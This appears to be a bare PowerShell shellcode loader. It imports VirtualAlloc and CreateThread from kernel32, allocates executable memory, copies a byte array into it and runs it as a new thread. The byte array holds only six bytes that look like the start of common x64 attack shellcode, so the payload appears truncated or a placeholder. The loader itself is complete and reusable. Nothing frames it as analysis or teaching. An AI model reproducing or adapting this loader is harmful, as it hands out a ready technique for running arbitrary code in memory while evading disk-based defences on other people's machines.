$code = @'
using System;
using System.Runtime.InteropServices;
public class K32 {
    [DllImport("kernel32")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
    [DllImport("kernel32")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr st, IntPtr p, uint f, IntPtr i);
}
'@
Add-Type -TypeDefinition $code
[Byte[]]$sc = 0xfc, 0x48, 0x83, 0xe4, 0xf0, 0xe8
$mem = [K32]::VirtualAlloc([IntPtr]::Zero, $sc.Length, 0x3000, 0x40)
[System.Runtime.InteropServices.Marshal]::Copy($sc, 0, $mem, $sc.Length)
[K32]::CreateThread([IntPtr]::Zero, 0, $mem, [IntPtr]::Zero, 0, [IntPtr]::Zero)
